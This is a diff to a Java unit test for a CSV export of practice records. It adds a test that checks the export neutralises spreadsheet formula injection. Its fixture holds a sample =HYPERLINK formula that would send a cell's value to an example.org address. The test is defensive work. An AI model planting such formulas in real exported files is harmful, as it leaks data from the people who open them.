@@ -7,6 +7,7 @@ import java.io.StringReader;
 import java.nio.file.Path;
 import java.util.ArrayList;
 import java.util.List;
+import java.util.Map;
 import java.util.Set;
 import org.apache.commons.csv.CSVFormat;
 import org.apache.commons.csv.CSVRecord;
@@ -53,13 +54,17 @@ class OpenDataTest {
     assertEquals("Collection of Good Practices, Ukraine, practice 2.a", ua2a.get("section").getAsString());
   }
 
+  /** @return the records as {@code csv} writes them, read back by their header */
+  private static List<CSVRecord> rows(PracticeCsv csv, List<PracticeRecord> written) throws Exception {
+    StringBuilder out = new StringBuilder();
+    csv.write(written, out);
+    return CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get().parse(new StringReader(out.toString())).getRecords();
+  }
+
   @Test
   void csvHasOneRowPerPracticeWithFacetsAsIds() throws Exception {
     PracticeCsv csv = new PracticeCsv(List.of("population", "setting", "year"));
-    StringBuilder out = new StringBuilder();
-    csv.write(records, out);
-    List<CSVRecord> rows = CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get()
-        .parse(new StringReader(out.toString())).getRecords();
+    List<CSVRecord> rows = rows(csv, records);
     assertEquals(39, rows.size());
     assertEquals(List.of("id", "title", "organisation", "country", "locations", "scope", "url", "contact", "language",
         "population", "setting", "year", "challenge", "action", "steps", "outcomes", "lessons", "notes", "source_title",
@@ -76,5 +81,26 @@ class OpenDataTest {
     assertEquals("Saint Petersburg", ru5.get("locations"));
     assertTrue(ru5.get("steps").contains("\n"), "list items one a line"); // quoted, so the row stays one record
     assertEquals(records.get(24).practice().text(org.practicefinder.model.Section.STEPS).orElseThrow(), ru5.get("steps"));
+  }
+
+  @Test
+  void csvCellsThatSpreadsheetsWouldRunAsFormulasAreText() throws Exception {
+    // An added practice's fields as a contributor may write them: a formula, a name and an address
+    // beginning with + or -, a section written as a dash list, a step beginning with @.
+    String file = """
+        [{"id": "UA-night-line-kyiv", "title": "=HYPERLINK(\\"https://example.org/?d=\\"&A2,\\"Details\\")",
+          "organisation": "+Plus Foundation", "country": "Ukraine", "contact": "-help@example.org",
+          "sections": {"challenge": "- no services at night; - police raids", "action": "Peers answer a phone line.",
+                       "steps": ["@home visits", "a second step"]}}]""";
+    PracticeFile.Result added = new PracticeFile().read("added.json", file, Set.of());
+    assertEquals(List.of(), added.errors());
+    CSVRecord row = rows(new PracticeCsv(List.of("population")), tagged(added.practices())).get(0);
+    Map<String, String> cells = Map.of("id", "UA-night-line-kyiv", "country", "Ukraine", "action", "Peers answer a phone line.",
+        "title", "'=HYPERLINK(\"https://example.org/?d=\"&A2,\"Details\")", "organisation", "'+Plus Foundation",
+        "contact", "'-help@example.org", "challenge", "'- no services at night; - police raids", "steps", "'@home visits\na second step");
+    cells.forEach((column, cell) -> assertEquals(cell, row.get(column), column));
+    // a file's text is trimmed, so a leading tab or carriage return reaches the writer only from elsewhere
+    for (String cell : List.of("\t=1+1", "\r=1+1")) assertEquals("'" + cell, PracticeCsv.text(cell));
+    for (String cell : List.of(" =1+1", "UA-1", "")) assertEquals(cell, PracticeCsv.text(cell));
   }
 }
